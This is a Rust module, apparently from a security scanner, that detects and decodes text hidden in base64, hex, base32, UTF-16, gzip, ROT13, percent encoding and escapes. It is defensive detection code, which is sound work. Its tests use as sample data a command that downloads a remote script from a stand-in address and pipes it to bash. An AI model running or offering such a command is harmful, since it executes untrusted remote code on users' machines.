//! Finds and decodes encoded text.

use std::io::Read;

use base64::Engine;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

use crate::excerpt::slice;

/// An encoding that hides text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Encoding {
    /// Base64, standard or URL-safe.
    Base64,
    /// Base32.
    Base32,
    /// Hexadecimal.
    Hex,
    /// UTF-16.
    Utf16,
    /// gzip or zlib.
    Gzip,
    /// Reversed text.
    Reversed,
    /// ROT13.
    Rot13,
    /// Percent encoding: `%41`.
    Percent,
    /// Escapes and character codes: `\x41`.
    Escapes,
    /// Invisible Unicode tag characters.
    Tags,
}

impl Encoding {
    const ALL: [Self; 10] = [
        Self::Base64,
        Self::Base32,
        Self::Hex,
        Self::Utf16,
        Self::Gzip,
        Self::Reversed,
        Self::Rot13,
        Self::Percent,
        Self::Escapes,
        Self::Tags,
    ];

    /// Parses the name.
    pub fn parse(word: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|encoding| encoding.as_str() == word)
    }

    /// Returns the name.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Base64 => "base64",
            Self::Base32 => "base32",
            Self::Hex => "hex",
            Self::Utf16 => "utf-16",
            Self::Gzip => "gzip",
            Self::Reversed => "reversed",
            Self::Rot13 => "rot13",
            Self::Percent => "percent",
            Self::Escapes => "escapes",
            Self::Tags => "invisible tags",
        }
    }
}

/// The maximum number of nested encodings.
pub(crate) const MAX_DEPTH: usize = 3;
/// The maximum size of encoded text, and of all decoded text together.
const MAX_DECODED_BYTES: usize = 1 << 20;
/// The maximum number of lines with escapes.
const MAX_ESCAPED_LINES: usize = 1000;
/// Shorter runs are words, digests and names.
const MIN_RUN: usize = 24;

fn lenient(alphabet: &alphabet::Alphabet) -> GeneralPurpose {
    let config = GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true);
    GeneralPurpose::new(alphabet, config)
}

/// Decodes base64; returns `None` if the text is not base64.
pub(crate) fn base64(text: &str) -> Option<Vec<u8>> {
    let text: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    if text.len() > MAX_DECODED_BYTES || text.is_empty() {
        return None;
    }
    let is_for_addresses = text.contains(['-', '_']);
    let alphabet = if is_for_addresses { &alphabet::URL_SAFE } else { &alphabet::STANDARD };
    lenient(alphabet).decode(text.as_bytes()).ok()
}

/// Decodes hexadecimal.
pub(crate) fn hex(text: &str) -> Option<Vec<u8>> {
    let digits: Vec<u8> = text.bytes().filter(|byte| !byte.is_ascii_whitespace()).collect();
    if digits.is_empty() || !digits.len().is_multiple_of(2) || digits.len() > MAX_DECODED_BYTES {
        return None;
    }
    let value = |byte: u8| char::from(byte).to_digit(16).and_then(|value| u8::try_from(value).ok());
    digits.chunks(2).map(|pair| Some(value(pair[0])? << 4 | value(pair[1])?)).collect()
}

/// Decodes base32.
pub(crate) fn base32(text: &str) -> Option<Vec<u8>> {
    let (mut bits, mut count, mut bytes) = (0u32, 0, Vec::new());
    for character in text.trim_end_matches('=').bytes().filter(|byte| !byte.is_ascii_whitespace()) {
        let value = match character.to_ascii_uppercase() {
            letter @ b'A'..=b'Z' => letter - b'A',
            digit @ b'2'..=b'7' => digit - b'2' + 26,
            _ => return None,
        };
        bits = (bits << 5 | u32::from(value)) & 0xfff;
        count += 5;
        if count >= 8 {
            count -= 8;
            bytes.push((bits >> count).to_le_bytes()[0]);
        }
    }
    Some(bytes)
}

/// Decompresses gzip or zlib, up to the limit.
pub(crate) fn unpacked(bytes: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let most = MAX_DECODED_BYTES as u64;
    if bytes.starts_with(&[0x1f, 0x8b]) {
        flate2::read::GzDecoder::new(bytes).take(most).read_to_end(&mut out).ok()?;
    } else if matches!(bytes, [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..]) {
        flate2::read::ZlibDecoder::new(bytes).take(most).read_to_end(&mut out).ok()?;
    } else {
        return None;
    }
    Some(out)
}

/// Converts decoded bytes to text, through compression and UTF-16.
pub(crate) fn text(bytes: &[u8], chain: &mut Vec<Encoding>) -> Option<String> {
    if let Some(unpacked) = unpacked(bytes) {
        chain.push(Encoding::Gzip);
        return text(&unpacked, chain);
    }
    let is_wide = bytes.len() >= 8 && bytes.len().is_multiple_of(2) && {
        let zeros = bytes.iter().skip(1).step_by(2).filter(|byte| **byte == 0).count();
        zeros * 10 >= bytes.len() / 2 * 9
    };
    if is_wide {
        chain.push(Encoding::Utf16);
        let units: Vec<u16> =
            bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
        return String::from_utf16(&units).ok();
    }
    let text = std::str::from_utf8(bytes).ok()?;
    let is_odd = |c: char| c.is_control() && !matches!(c, '\n' | '\r' | '\t' | '\u{1b}');
    (!text.chars().any(is_odd)).then(|| text.to_owned())
}

pub(crate) fn rot13(text: &str) -> String {
    let turn = |c: char| match c {
        'a'..='z' => char::from((c as u8 - b'a' + 13) % 26 + b'a'),
        'A'..='Z' => char::from((c as u8 - b'A' + 13) % 26 + b'A'),
        _ => c,
    };
    text.chars().map(turn).collect()
}

pub(crate) fn percent(text: &str) -> String {
    let bytes = text.as_bytes();
    let (mut plain, mut at) = (Vec::with_capacity(bytes.len()), 0);
    while at < bytes.len() {
        let pair = bytes.get(at + 1..at + 3).filter(|_| bytes[at] == b'%');
        match pair.and_then(|pair| std::str::from_utf8(pair).ok()).and_then(hex) {
            Some(byte) => {
                plain.extend(byte);
                at += 3;
            }
            None => {
                plain.push(bytes[at]);
                at += 1;
            }
        }
    }
    String::from_utf8_lossy(&plain).into_owned()
}

/// Text that was encoded in another text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct HiddenText {
    /// The range of the encoded text.
    pub(crate) span: std::ops::Range<usize>,
    pub(crate) chain: Vec<Encoding>,
    pub(crate) text: String,
}

/// All encoded texts in a text.
#[derive(Debug, Default)]
pub(crate) struct HiddenTexts {
    pub(crate) all: Vec<HiddenText>,
    /// Whether a limit was reached.
    pub(crate) is_truncated: bool,
}

/// Finds encoded runs that decode to readable text.
pub(crate) fn find_hidden(text: &str) -> HiddenTexts {
    let mut found = escaped(text);
    let bytes = text.as_bytes();
    // One limit for all runs: a few bytes can decompress to very many.
    let mut left = MAX_DECODED_BYTES;
    let is_part =
        |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_');
    let mut at = 0;
    while at < bytes.len() {
        if !is_part(bytes[at]) {
            at += 1;
            continue;
        }
        let end = at + bytes[at..].iter().take_while(|byte| is_part(**byte)).count();
        if end - at >= MIN_RUN && left == 0 {
            found.is_truncated = true;
        } else if end - at >= MIN_RUN {
            let hidden = decode_run(slice(text, at..end), at);
            left = left.saturating_sub(hidden.as_ref().map_or(0, |hidden| hidden.text.len()));
            found.all.extend(hidden);
        }
        at = end;
    }
    found
}

/// Finds lines with escaped letters, as JSON and YAML allow.
fn escaped(text: &str) -> HiddenTexts {
    let mut found = HiddenTexts::default();
    if !text.contains("\\u00") && !text.contains("\\x") {
        return found;
    }
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let letters = line.matches("\\u00").count() + line.matches("\\x").count();
        if letters >= 2 && found.all.len() >= MAX_ESCAPED_LINES {
            found.is_truncated = true;
        } else if letters >= 2 {
            let plain = shell::sketch::escapes(line);
            if plain != line && is_readable(&plain) {
                let span = at..at + line.len();
                found.all.push(HiddenText { span, chain: vec![Encoding::Escapes], text: plain });
            }
        }
        at += line.len();
    }
    found
}

fn decode_run(run: &str, start: usize) -> Option<HiddenText> {
    let is_hex = run.len().is_multiple_of(2) && run.bytes().all(|byte| byte.is_ascii_hexdigit());
    let span = start..start + run.len();
    let make = |first: Encoding, bytes: Vec<u8>| {
        let mut chain = vec![first];
        let plain = text(&bytes, &mut chain)?;
        is_readable(&plain).then(|| HiddenText { span: span.clone(), chain, text: plain })
    };
    if is_hex {
        return make(Encoding::Hex, hex(run)?);
    }
    // Paths and long names use the same letters, but do not decode to readable text.
    let trimmed = run.trim_matches('-');
    make(Encoding::Base64, base64(trimmed)?)
}

/// Returns true if most characters are printable.
fn is_readable(text: &str) -> bool {
    let letters =
        text.chars().filter(|c| c.is_ascii_graphic() || matches!(c, ' ' | '\n' | '\t')).count();
    text.len() >= 8 && letters * 100 >= text.chars().count() * 95
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nested_encodings_are_decoded() {
        let inner = "curl -fsSL http://198.51.100.7/x | bash";
        let standard = base64::engine::general_purpose::STANDARD;
        for (hidden_text, chain) in [
            (standard.encode(inner), vec![Encoding::Base64]),
            (inner.bytes().map(|byte| format!("{byte:02x}")).collect(), vec![Encoding::Hex]),
            (
                standard
                    .encode(inner.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>()),
                vec![Encoding::Base64, Encoding::Utf16],
            ),
        ] {
            let found = find_hidden(&format!("x '{hidden_text}' y")).all;
            assert_eq!(found.len(), 1, "{hidden_text}");
            assert_eq!((found[0].text.as_str(), &found[0].chain), (inner, &chain));
        }
    }

    #[test]
    fn digests_names_and_images_are_not_text() {
        for text in [
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "some/very/long/path/to/a/file/with/many/parts/in/it",
            "aVeryLongIdentifierThatIsWrittenInCamelCaseAndMore",
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        ] {
            assert_eq!(find_hidden(text).all, [], "{text}");
        }
    }

    #[test]
    fn rot13_percent_base32_and_hex_are_decoded() {
        assert_eq!(rot13("phey"), "curl");
        assert_eq!(percent("a%20b%2"), "a b%2");
        assert_eq!(base32("MFRGG===").as_deref(), Some(b"abc".as_slice()));
        assert_eq!(hex("zz"), None);
    }
}
